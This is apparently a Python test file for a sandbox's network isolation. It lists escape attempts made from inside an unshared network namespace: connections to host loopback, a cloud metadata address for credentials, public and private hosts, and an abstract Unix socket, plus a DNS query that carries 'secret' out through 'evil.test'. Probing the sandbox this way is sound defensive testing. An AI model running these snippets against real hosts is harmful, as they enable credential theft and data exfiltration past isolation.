"""Attempts to reach anything without the supervisor; every address lies in the test's namespace."""

import socket
from secrets import token_hex
from typing import Final

from tests.attacks.attempt import Attempt, Inside, stolen
from tests.attacks.guards import option
from tests.attacks.scene import METADATA, PRIVATE, PUBLIC, RESOLVER, Scene

_NO_NETWORK: Final = option("--unshare-net", ("--unshare-net",))
_TCP: Final = "s = socket.create_connection((S['host'], int(S['port'])), 3); print(s.recv(100))"
_UDP: Final = """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.connect((S['host'], int(S['port']))); s.send({words}); print(s.recv(100))
"""


def _abstract(scene: Scene) -> None:
    name = f"attack-{token_hex(8)}"
    scene.facts["name"] = name
    scene.serve(socket.AF_UNIX, f"\0{name}")


def _tcp(what: str, host: str, family: int = socket.AF_INET, fact: str = "20") -> Attempt:
    return Attempt(
        what=what,
        fact=fact,
        layers=(_NO_NETWORK,),
        perform=Inside(
            program=_TCP, stage=lambda scene: scene.serve_tcp(host, family), evidence=stolen
        ),
    )


ATTEMPTS: Final = (
    _tcp("reaches a service on the host's loopback", "127.0.0.1"),
    _tcp("reaches a service on the host's loopback by IPv6", "::1", socket.AF_INET6),
    _tcp("reads credentials at the metadata address", METADATA, fact="21"),
    _tcp("connects to a public address by its number", PUBLIC, fact="25"),
    _tcp("connects to a machine of the private network", PRIVATE, fact="25"),
    Attempt(
        what="sends datagrams to the host's loopback",
        fact="20",
        layers=(_NO_NETWORK,),
        perform=Inside(
            program=_UDP.format(words="b'x'"),
            stage=lambda scene: scene.serve_udp("127.0.0.1"),
            evidence=stolen,
        ),
    ),
    Attempt(
        what="carries words out in a question to a name server",
        fact="30",
        layers=(_NO_NETWORK,),
        perform=Inside(
            program=_UDP.format(
                words="bytes(12) + b'\\x06secret\\x04evil\\x04test\\0\\0\\x01\\0\\x01'"
            ),
            stage=lambda scene: scene.serve_udp(RESOLVER, 53),
            evidence=stolen,
        ),
    ),
    Attempt(
        what="talks to an abstract socket of the host",
        fact="22",
        layers=(_NO_NETWORK,),
        perform=Inside(
            program="""
s = socket.socket(socket.AF_UNIX); s.settimeout(5)
s.connect('\\0' + S['name']); print(s.recv(100))
""",
            stage=_abstract,
            evidence=stolen,
        ),
    ),
    Attempt(
        what="lists the host's addresses",
        layers=(_NO_NETWORK,),
        perform=Inside(
            program="print(open('/proc/net/fib_trie').read())",
            evidence=lambda _, heard: METADATA.encode() in heard.output,
        ),
    ),
)
